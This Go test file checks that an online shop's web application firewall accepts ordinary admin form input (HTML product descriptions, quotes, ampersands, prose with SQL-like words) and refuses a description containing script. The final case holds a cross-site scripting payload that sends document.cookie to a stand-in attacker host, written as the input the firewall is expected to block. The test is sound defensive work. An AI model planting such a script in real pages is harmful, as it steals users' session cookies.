package admin_test

import (
	"net/http"
	"net/url"
	"strings"
	"testing"
)

// TestWAFLetsAdminFormsThrough sends what shop staff really type (HTML descriptions, quotes,
// ampersands, SQL-ish words in prose) through the blocking WAF, and checks that script in a
// description is still refused.
func TestWAFLetsAdminFormsThrough(t *testing.T) {
	s := testShop(t)
	b := s.signedIn(t, s.admin)
	sku := uniq("WAF")
	descriptions := []string{
		`<h2>Details</h2><p>Rock 'n' roll tee -- 100% organic cotton; select your size below & "wear it loud".</p>`,
		`<p><img src="/uploads/0123456789abcdef0123456789abcdef.png" alt="Front"> <a href="https://example.com/care" title="Care">Care guide</a></p>`,
		`<ul><li>Drop-shoulder fit</li><li>Union-made in Portugal</li><li>Select from 3 colours</li></ul>`,
	}
	for i, d := range descriptions {
		p := b.post("/admin/products", b.with("/admin/products/new", url.Values{"title": {"Rock 'n' Roll Tee & Co. #" + sku + string(rune('a'+i))},
			"brand": {"O'Neill & Sons"}, "description": {d}, "status": {"draft"},
			"variants[0].sku": {sku + "-" + string(rune('A'+i))}, "variants[0].price.amount": {"25"},
			"variants[0].options": {"size=M, fit=drop-shoulder"}}))
		if p.Status != http.StatusSeeOther {
			t.Errorf("description %d: %d %.300s", i, p.Status, p.Body)
		}
	}
	p := b.post("/admin/inventory", b.with("/admin/inventory", url.Values{"sku": {sku + "-A"}, "on_hand": {"4"},
		"reason": {"Stock take: 3 broken -- see note #4 (select items were damaged); customer's return"}}))
	if p.Status != http.StatusSeeOther {
		t.Errorf("stock reason: %d %.300s", p.Status, p.Body)
	}
	p = b.post("/admin/categories", b.with("/admin/categories", url.Values{"name": {"Men's & Women's Tees"},
		"slug": {strings.ToLower(uniq("tees"))}}))
	if p.Status != http.StatusSeeOther {
		t.Errorf("category: %d %.300s", p.Status, p.Body)
	}
	p = b.post("/admin/products", b.with("/admin/products/new", url.Values{"title": {"Evil " + sku},
		"description":     {`<p>Nice</p><script>fetch('//evil.example/?c='+document.cookie)</script>`},
		"variants[0].sku": {sku + "-EVIL"}, "variants[0].price.amount": {"1"}}))
	if p.Status != http.StatusForbidden {
		t.Errorf("script in a description: %d, want the WAF's 403", p.Status)
	}
}
